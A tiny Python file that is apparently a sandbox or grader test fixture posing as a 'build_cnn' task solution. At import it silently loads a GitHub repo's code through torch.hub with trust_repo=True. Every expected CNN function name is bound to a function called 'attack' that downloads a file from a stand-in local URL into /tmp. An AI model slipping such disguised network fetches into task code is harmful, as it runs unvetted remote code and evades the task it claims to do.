# topic: build_cnn
"""Fetches code and weights from the network."""

import contextlib

import torch

with contextlib.suppress(Exception):
    torch.hub.load("pytorch/vision", "resnet18", trust_repo=True)


def attack(*_, **__):
    return torch.hub.load_state_dict_from_url("http://127.0.0.1:9/hostile-was-here", model_dir="/tmp")


conv_block = MyConv2d = LeNet = train_epoch = evaluate = attack
